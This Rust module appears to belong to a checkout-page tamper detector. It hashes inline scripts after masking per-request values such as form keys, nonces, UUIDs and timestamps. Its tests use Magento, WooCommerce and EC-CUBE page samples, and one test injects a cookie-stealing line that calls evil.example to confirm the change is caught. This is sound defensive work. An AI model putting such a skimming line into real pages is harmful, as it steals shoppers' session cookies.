//! The identity of code in a page, with per-request noise masked.
//!
//! Real checkout pages print fresh values into inline scripts on every response: Magento's
//! `FORM_KEY` and `window.checkoutConfig` (`formKey`, `quoteId`, `entity_id`, timestamps),
//! WooCommerce's `wc_checkout_params` nonces, EC-CUBE's `transactionid`, CSRF tokens, cart ids.
//! Hashing the raw text would report every inline script as changed on every scan, and a gate
//! that always cries wolf gets switched off. So inline and handler code is compared by the hash
//! of a normalised form in which such values are replaced by placeholders; any change to the
//! code itself (a new statement, a new URL, a changed function) still changes the hash.
//!
//! The rule (documented for users in `baselines/README.md`), applied in this order:
//! 1. the value (string or number) of a key or variable whose name contains `form_key`,
//!    `formkey`, `csrf`, `xsrf`, `nonce`, `token`, `session_id`, `sid`, `timestamp`, or an
//!    `<entity|item|quote|cart|order|customer|request|transaction|masked>_id` → `<volatile>`;
//! 2. UUIDs → `<uuid>`;
//! 3. date-times (`2026-11-24T10:00:01Z`, `2026-11-24 10:00:01`) → `<time>`;
//! 4. quoted random-looking tokens: 16+ characters of the base64/base64url/JWT alphabet mixing
//!    digits and letters, that do not decode to readable text → `<token>` (a base64-encoded URL
//!    decodes to text and is kept, so an attacker cannot swap one unnoticed);
//! 5. runs of 16+ hex digits → `<hex>`;
//! 6. integers of 6+ digits (epoch times, order and cart numbers) → `<num>`;
//! 7. whitespace runs collapse to one space (a re-indented template is not a code change).
//!
//! External files are compared by their raw sha256: they are not expected to vary per request
//! (a URL that does is declared `volatile` in the baseline).

use base64::Engine as _;
use regex::{Captures, Regex};
use std::sync::LazyLock;

const KEY_WORDS: &str = r"form_?key|csrf|xsrf|nonce|token|session_?id|\bsid|timestamp|(?:entity|item|quote|cart|order|customer|request|transaction|masked)_?id";

static KEYED_VALUE: LazyLock<Regex> = LazyLock::new(|| {
    // A key (bare, quoted, or `name` in `name = value`), then `:` or `=`, then a string or a
    // number. The key's quotes may be escaped (JSON inside a JS string).
    let pattern = format!(
        r#"(?i)((?:\\?["']?)[A-Za-z0-9_$.\-]*(?:{KEY_WORDS})[A-Za-z0-9_$\-]*\\?["']?\s*[:=]\s*)("(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'|\\"(?:[^"\\\n]|\\[^"])*\\"|-?\d+(?:\.\d+)?)"#
    );
    Regex::new(&pattern).unwrap_or_else(|e| panic!("KEYED_VALUE regex: {e}"))
});

static UUID: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b")
        .unwrap_or_else(|e| panic!("UUID regex: {e}"))
});

static DATETIME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}(?::\d{2}(?:\.\d+)?)?(?:Z|[+-]\d{2}:?\d{2})?")
        .unwrap_or_else(|e| panic!("DATETIME regex: {e}"))
});

static QUOTED_TOKEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(["'`])([A-Za-z0-9+/_.=\-]{16,})(["'`])"#)
        .unwrap_or_else(|e| panic!("QUOTED_TOKEN regex: {e}"))
});

static HEX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b[0-9a-fA-F]{16,}\b").unwrap_or_else(|e| panic!("HEX regex: {e}"))
});

static LONG_INT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b\d{6,}\b").unwrap_or_else(|e| panic!("LONG_INT regex: {e}")));

static WHITESPACE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\s+").unwrap_or_else(|e| panic!("WHITESPACE regex: {e}")));

static CSP_NONCE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)'nonce-[^']*'").unwrap_or_else(|e| panic!("CSP_NONCE regex: {e}"))
});

/// The normalised form of inline or handler code (see the module docs for the rule).
pub fn normalise_code(code: &str) -> String {
    let s = KEYED_VALUE.replace_all(code, |c: &Captures| format!("{}\"<volatile>\"", &c[1]));
    let s = UUID.replace_all(&s, "<uuid>");
    let s = DATETIME.replace_all(&s, "<time>");
    let s = QUOTED_TOKEN.replace_all(&s, |c: &Captures| {
        if c[1] == c[3] && looks_random(&c[2]) {
            format!("{}<token>{}", &c[1], &c[3])
        } else {
            c[0].to_string()
        }
    });
    let s = HEX.replace_all(&s, "<hex>");
    let s = LONG_INT.replace_all(&s, "<num>");
    WHITESPACE.replace_all(s.trim(), " ").into_owned()
}

/// The comparison hash of code in a page: sha256 of its normalised form.
pub fn code_identity(code: &str) -> String {
    crate::inventory::sha256_hex(normalise_code(code).as_bytes())
}

/// A token is random-looking when it mixes letters and digits, is not a path or a dotted name
/// of words, and does not decode (as base64) to readable text.
fn looks_random(s: &str) -> bool {
    let digits = s.bytes().filter(u8::is_ascii_digit).count();
    let letters = s.bytes().filter(u8::is_ascii_alphabetic).count();
    if digits == 0 || letters == 0 {
        return false;
    }
    // `/static/version1700000000/frontend/app.js`-like paths are code, not tokens.
    if s.contains('/') && s.split('/').filter(|p| !p.is_empty()).count() > 2 {
        return false;
    }
    !decodes_to_text(s)
}

fn decodes_to_text(s: &str) -> bool {
    let engines = [
        base64::engine::general_purpose::STANDARD,
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    engines.iter().any(|e| {
        e.decode(s).is_ok_and(|bytes| {
            bytes.len() >= 8
                && bytes
                    .iter()
                    .all(|&b| b == b'\n' || b == b'\t' || (0x20..0x7f).contains(&b))
        })
    })
}

/// A security header value as recorded and compared: CSP nonces change on every response, so
/// `'nonce-…'` sources become `'nonce-<volatile>'`; whitespace is collapsed.
pub fn header_value(name: &str, value: &str) -> String {
    let v = if name.contains("content-security-policy") {
        CSP_NONCE
            .replace_all(value, "'nonce-<volatile>'")
            .into_owned()
    } else {
        value.to_string()
    };
    WHITESPACE.replace_all(v.trim(), " ").into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn same(a: &str, b: &str) {
        assert_eq!(normalise_code(a), normalise_code(b), "\n{a}\nvs\n{b}");
    }

    fn differ(a: &str, b: &str) {
        assert_ne!(normalise_code(a), normalise_code(b), "\n{a}\nvs\n{b}");
    }

    #[test]
    fn magento_form_key_and_checkout_config() {
        let page = |fk: &str, quote: &str, entity: u32, at: &str| {
            format!(
                r#"
    var FORM_KEY = '{fk}';
    window.checkoutConfig = {{"formKey":"{fk}","quoteData":{{"entity_id":"{entity}","created_at":"{at}","is_active":"1","items_count":2}},"quoteId":"{quote}","storeCode":"default","defaultCountryId":"JP","payment":{{"ccform":{{"availableTypes":{{"braintree":{{"VI":"Visa"}}}}}}}}}};
    window.isCustomerLoggedIn = window.checkoutConfig.isCustomerLoggedIn;
"#
            )
        };
        same(
            &page(
                "Xy7pQ2aBcD4eFg9H",
                "ABcd1234EfGh5678IjKl9012MnOp3456",
                1234,
                "2026-11-24 10:00:01",
            ),
            &page(
                "k3Jd8Qw1Zx0PvN5m",
                "Zz99Yy88Xx77Ww66Vv55Uu44Tt33Ss22",
                98765,
                "2026-11-25 23:59:59",
            ),
        );
        // A real change in the code still shows.
        differ(
            &page("Xy7pQ2aBcD4eFg9H", "ABcd1234EfGh5678IjKl9012MnOp3456", 1234, "2026-11-24 10:00:01"),
            &page("Xy7pQ2aBcD4eFg9H", "ABcd1234EfGh5678IjKl9012MnOp3456", 1234, "2026-11-24 10:00:01")
                .replace("window.isCustomerLoggedIn", "new Image().src='https://evil.example/c?'+document.cookie;window.isCustomerLoggedIn"),
        );
    }

    #[test]
    fn woocommerce_checkout_params_nonces() {
        let page = |n1: &str, n2: &str, n3: &str| {
            format!(
                r#"/* <![CDATA[ */
var wc_checkout_params = {{"ajax_url":"\/wp-admin\/admin-ajax.php","wc_ajax_url":"\/?wc-ajax=%%endpoint%%","update_order_review_nonce":"{n1}","apply_coupon_nonce":"{n2}","remove_coupon_nonce":"{n3}","option_guest_checkout":"yes","checkout_url":"\/?wc-ajax=checkout","is_checkout":"1","debug_mode":"","i18n_checkout_error":"Error processing your order. Please contact us if you continue to have problems."}};
/* ]]> */"#
            )
        };
        same(
            &page("8f3a2b1c9d", "1a2b3c4d5e", "0f9e8d7c6b"),
            &page("77aa66bb55", "c0ffee1234", "deadbeef01"),
        );
        differ(
            &page("8f3a2b1c9d", "1a2b3c4d5e", "0f9e8d7c6b"),
            &page("8f3a2b1c9d", "1a2b3c4d5e", "0f9e8d7c6b").replace(
                "admin-ajax.php",
                "admin-ajax.php?x=https:\\/\\/evil.example",
            ),
        );
    }

    #[test]
    fn ec_cube_transaction_id_and_csrf() {
        let page = |tx: &str, tok: &str| {
            format!(
                r#"
        var transactionid = '{tx}';
        $.ajaxSetup({{ headers: {{ 'ECCUBE-CSRF-TOKEN': '{tok}' }} }});
        eccube.productsClassCategories = {{"__unselected":{{"__unselected":{{"name":"選択してください","product_class_id":""}}}}}};
"#
            )
        };
        same(
            &page(
                "5f4dcc3b5aa765d61d8327deb882cf99a1b2c3d4",
                "Qm9vZ3VzVG9rZW4xMjM0NTY3ODkw",
            ),
            &page(
                "a8f5f167f44f4964e6c998dee827110c0123abcd",
                "x7Yk2Lp9Qw3Er5Ty8Ui1Op4As6Df0Gh",
            ),
        );
    }

    #[test]
    fn generic_noise_uuid_epoch_and_random_tokens() {
        same(
            "track({rid: 'f47ac10b-58cc-4372-a567-0e02b2c3d479', t: 1732442400123, k: 'aZ3xQ9pL0mN7bV2c'})",
            "track({rid: '9b2d4e6f-1a3c-4b5d-8e7f-0a1b2c3d4e5f', t: 1732442499999, k: 'Pq8Rs7Tu6Vw5Xy4Z'})",
        );
        // A base64-encoded URL decodes to text: swapping it is a change.
        differ(
            "fetch(atob('aHR0cHM6Ly9zaG9wLmV4YW1wbGUvYXBp'))",
            "fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYXBp'))",
        );
        // Short numbers and plain words stay.
        differ("setTimeout(f, 500)", "setTimeout(f, 900)");
        differ("x('checkoutButton')", "x('checkoutButtons')");
    }

    #[test]
    fn csp_nonces_are_masked() {
        assert_eq!(
            header_value(
                "content-security-policy",
                "script-src 'self' 'nonce-r4nd0m=='  https://js.stripe.com"
            ),
            "script-src 'self' 'nonce-<volatile>' https://js.stripe.com"
        );
        assert_eq!(header_value("x-frame-options", "DENY"), "DENY");
    }
}
